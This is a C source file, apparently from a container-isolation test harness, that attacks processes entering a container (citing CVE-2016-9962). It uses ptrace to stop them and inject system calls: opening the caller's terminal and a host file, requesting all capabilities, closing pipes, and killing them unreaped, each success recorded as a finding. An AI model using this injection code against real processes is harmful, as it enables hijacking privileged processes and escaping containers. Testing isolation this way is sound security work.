/* SPDX-License-Identifier: MIT
 *
 * Stops a process that isn't a command yet, and has it make system calls of our choice: whatever it
 * can do beyond what the container can is a finding. Needs CAP_SYS_PTRACE. CVE-2016-9962
 */
#include "attacker.h"

#include <elf.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/magic.h>
#include <signal.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/vfs.h>
#include <sys/wait.h>

enum {
	RED_ZONE = 1024, /* so far below its stack we put our bytes */
	BYTES_MAX = 512,
	FDS_MAX = 24,
	HERE = -0x400000, /* as an argument: where the bytes are; plus N: N further */
};

/* A process that is stopped: it stays so until detach(). */
static bool stop_it(pid_t pid)
{
	int status;

	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
		return false;
	if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 &&
	    waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
		return true;
	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
	return false;
}

#ifdef __x86_64__

#define SYSCALL_INSTRUCTION 0x050fL

/* One instruction. A signal that comes in between (our own, to its group) is left out. */
static bool step(pid_t pid)
{
	int status;

	for (int i = 0; i < 4; i++) {
		if (ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) < 0 ||
		    waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
			return false;
		if (status >> 8 == SIGTRAP)
			return true;
	}
	return false;
}

static unsigned long long resolve(long arg, long at)
{
	return (unsigned long long)(arg >= HERE && arg < HERE + BYTES_MAX ? at + arg - HERE : arg);
}

/* Has it call `number`. -EAGAIN: it wasn't at a system call. */
static long inject(const struct victim *v, long number, const long args[3], const void *bytes,
		   size_t size)
{
	_cleanup_fd_ int mem = openat(v->proc, "mem", O_RDWR | O_CLOEXEC);
	struct user_regs_struct before, regs;
	long result = -EAGAIN, at;

	if (mem < 0 || ptrace(PTRACE_GETREGS, v->pid, NULL, &before) < 0)
		return -EAGAIN;
	regs = before;
	regs.rip -= 2;
	errno = 0;
	if ((ptrace(PTRACE_PEEKTEXT, v->pid, regs.rip, NULL) & 0xffff) != SYSCALL_INSTRUCTION ||
	    errno)
		return -EAGAIN;
	at = (long)((before.rsp - RED_ZONE) & ~15ULL);
	if (size && pwrite(mem, bytes, size, at) != (ssize_t)size)
		return -EAGAIN;
	regs.rax = (unsigned long long)number;
	regs.orig_rax = ~0ULL; /* no restart of what it was doing */
	regs.rdi = resolve(args[0], at);
	regs.rsi = resolve(args[1], at);
	regs.rdx = resolve(args[2], at);
	if (ptrace(PTRACE_SETREGS, v->pid, NULL, &regs) == 0 && step(v->pid) &&
	    ptrace(PTRACE_GETREGS, v->pid, NULL, &regs) == 0)
		result = (long)regs.rax;
	(void)ptrace(PTRACE_SETREGS, v->pid, NULL, &before);
	return result;
}

#else

static long inject(const struct victim *v, long number, const long args[3], const void *bytes,
		   size_t size)
{
	(void)v, (void)number, (void)args, (void)bytes, (void)size;
	return -EAGAIN; /* what is looked at from outside is checked all the same */
}

#endif

static void make_it_open(const struct victim *v, const char *path, const char *what)
{
	const long args[3] = {AT_FDCWD, HERE, O_RDONLY | O_NOCTTY | O_CLOEXEC};

	if (path && inject(v, SYS_openat, args, path, strlen(path) + 1) >= 0)
		finding("a traced process can open %s", what);
}

/* Harmless, but whoever is in its process group hears of it: the test does if that's the caller's. */
static void make_it_signal_its_group(const struct victim *v)
{
	const long args[3] = {0, SIGWINCH, 0};

	(void)inject(v, SYS_kill, args, NULL, 0);
}

static void make_it_take_capabilities(const struct victim *v)
{
	struct {
		struct __user_cap_header_struct header;
		struct __user_cap_data_struct data[2];
	} all = {.header = {.version = _LINUX_CAPABILITY_VERSION_3}};
	const long args[3] = {HERE, HERE + offsetof(typeof(all), data), 0};

	memset(all.data, 0xff, sizeof(all.data));
	(void)inject(v, SYS_capset, args, &all, sizeof(all));
}

void attack_trace(const struct attacker *a, struct victim *v)
{
	if (!stop_it(v->pid))
		return;
	if (is_foreign_exe(a, v->proc)) {
		(*a->traced)++;
		judge_identity(a, v->proc, "a traced process");
		make_it_open(v, "/dev/tty", "the caller's terminal");
		make_it_open(v, TTY, "the caller's terminal");
		make_it_signal_its_group(v);
		make_it_open(v, a->marker, "a file of the host");
		make_it_take_capabilities(v);
		judge_identity(a, v->proc, "a traced process");
	}
	(void)ptrace(PTRACE_DETACH, v->pid, NULL, NULL);
}

/* Killed, and never waited for: its parent outside isn't told of its end as long as we trace it. */
void attack_unreaped(const struct attacker *a, struct victim *v)
{
	if (!stop_it(v->pid))
		return;
	if (!is_foreign_exe(a, v->proc)) {
		(void)ptrace(PTRACE_DETACH, v->pid, NULL, NULL);
		return;
	}
	(*a->traced)++;
	(void)kill(v->pid, SIGKILL);
}

/* Closes its pipes, all but stdio, and holds it where it is. */
void attack_mute(const struct attacker *a, struct victim *v)
{
	bool closed = false;

	if (!stop_it(v->pid))
		return;
	for (long fd = 3; fd < FDS_MAX && is_foreign_exe(a, v->proc); fd++) {
		const long args[3] = {fd, 0, 0};

		closed |= inject(v, SYS_close, args, NULL, 0) == 0;
	}
	if (closed)
		(*a->traced)++;
	else /* not at a system call, where it could be made to */
		(void)ptrace(PTRACE_DETACH, v->pid, NULL, NULL);
}
